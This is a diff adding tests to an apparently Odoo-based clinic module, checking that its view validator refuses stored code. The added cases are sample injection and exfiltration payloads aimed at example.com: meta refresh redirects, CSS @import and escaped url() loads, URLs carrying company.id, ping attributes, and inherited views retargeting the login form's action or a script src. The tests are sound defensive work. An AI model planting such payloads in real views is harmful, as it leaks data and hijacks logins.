@@ -18,6 +18,7 @@ from ...tools.stored_code.plain import is_plain
 from ..common import ClinicCommon, with_stored_code
 
 GATE = "odoo.addons.clinic_base.tools.stored_code.gate"
+LAYOUT = "web.external_layout_standard"
 STEAL = "env.cr.execute('SELECT 1')"
 
 
@@ -84,6 +85,12 @@ class TestWhatIsCode(BaseCase):
             "<script>x()</script>",
             '<script src="https://example.com/x.js"/>',
             '<base href="https://example.com"/>',
+            '<meta http-equiv="refresh" content="0;url=https://example.com"/>',
+            '<form action="//example.com/x"><input name="q"/></form>',
+            '<button formaction="https://example.com">x</button>',
+            '<link rel="stylesheet" href="https://example.com/x.css"/>',
+            "<style>@import 'https://example.com/x.css';</style>",
+            r"<style>p { background: \75rl(//example.com/x) }</style>",
             '<field t-on-click="x()"/>',
             '<field name="ref" widget="iframe_wrapper"/>',
         ):
@@ -288,6 +295,90 @@ class TestStoredCode(ClinicCommon):
                 arch = f'<t t-call="web.layout" {name}="{value}"/>'
                 found = list(find_code(etree.fromstring(arch)))
                 self.assertTrue(found, arch)
+
+    def _put(self, key, body):
+        """Save the module's own view ``key`` with ``body`` at its end."""
+        view = self.env.ref(key).with_user(self.system)
+        head, end, tail = view.arch.rpartition("</")
+        view.arch = f"{head}{body}{end}{tail}"
+
+    def test_an_expression_of_a_view_is_put_to_no_other_use(self):
+        """Its file makes names of classes of the company's number."""
+        for body in (
+            '<img t-attf-src="https://example.com/?p=#{company.id}"/>',
+            '<p t-attf-style="background: url(//example.com/#{company.id})"/>',
+            '<a t-att-href="company.id">x</a>',
+            '<t t-set="company" t-value="company.id"/>',
+        ):
+            with self.subTest(body=body), self.assertRefused():
+                self._put(LAYOUT, body)
+
+    def test_an_element_with_expressions_stands_in_nothing_that_sends_it(self):
+        """As it is in its file, but where a browser reads it as an address."""
+        title = '<h2 t-out="layout_document_title"/>'
+        self._put(LAYOUT, f"<p>{title}</p>")
+        for body in (
+            f"<style>@import 'https://example.com/?{title}';</style>",
+            f"<style>.x {title} </style>",
+            f"<svg>{title}</svg>",
+            f'<form action="https://example.com"><p>{title}</p></form>',
+            f'<a ping="https://example.com" href="/">{title}</a>',
+            f'<t t-set="layout_address">https://example.com/?{title}</t>',
+            f'<iframe src="//example.com">{title}</iframe>',
+            '<t t-set="address" t-valuef="https://example.com/"/>',
+        ):
+            with self.subTest(body=body), self.assertRefused():
+                self._put(LAYOUT, body)
+
+    def test_an_inherited_view_moves_nothing_to_where_it_is_sent(self):
+        arch = (
+            '<data><xpath expr="//div" position="inside">{}</xpath>'
+            '<xpath expr="//{}[@id=\'x\']" position="inside">'
+            '<xpath expr="//h2[@t-out]" position="move"/></xpath></data>'
+        )
+        vals = self._inherit_vals("", parent=LAYOUT)
+        views = self.as_system["ir.ui.view"]
+        for tag, element in (
+            ("style", '<style id="x">p {}</style>'),
+            ("svg", '<svg id="x"/>'),
+            ("t", '<t id="x" t-set="company"/>'),
+            ("a", '<a id="x" ping="https://example.com" href="/"/>'),
+        ):
+            with self.subTest(tag=tag), self.assertRefused():
+                views.create({**vals, "arch": arch.format(element, tag)})
+        views.create({**vals, "arch": arch.format('<p id="x"/>', "p")})
+
+    def test_nor_does_it_change_what_runs_or_sends(self):
+        script = '<xpath expr="//script" position="{}">{}</xpath>'
+        form = '<xpath expr="//form" position="attributes">{}</xpath>'
+        for parent, arch in (
+            ("web.frontend_layout", script.format("inside", "alert(1)")),
+            (
+                "web.frontend_layout",
+                script.format(
+                    "attributes",
+                    '<attribute name="src">https://example.com/x.js</attribute>',
+                ),
+            ),
+            (
+                "web.login",
+                form.format('<attribute name="action">https://example.com</attribute>'),
+            ),
+        ):
+            vals = {**self._inherit_vals("", parent=parent), "arch": arch}
+            with self.subTest(arch=arch), self.assertRefused():
+                self.as_system["ir.ui.view"].create(vals)
+
+    def test_the_order_of_attributes_does_not_count(self):
+        arch = self.env.ref(LAYOUT).arch
+        root = etree.fromstring(arch)
+        for element in root.iter(etree.Element):
+            pairs = element.items()
+            element.attrib.clear()
+            element.attrib.update(reversed(pairs))
+        changed = etree.tostring(root, encoding="unicode")
+        self.assertNotEqual(changed, arch)
+        self.env.ref(LAYOUT).with_user(self.system).arch = changed
 
     def test_a_view_of_the_backend_gets_none_either(self):
         kanban = self.env.ref("base.res_partner_kanban_view")
